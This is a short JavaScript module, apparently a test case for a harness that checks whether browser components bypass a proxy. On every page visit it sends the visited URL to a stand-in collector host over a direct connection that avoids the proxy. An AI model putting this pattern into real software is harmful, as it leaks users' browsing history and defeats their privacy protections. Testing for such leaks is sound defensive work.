import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports addresses by connections that do not ask for the proxy. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-around-tcp');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://around.collector.example/v1', { url }, { network: 'direct' }),
  );
}
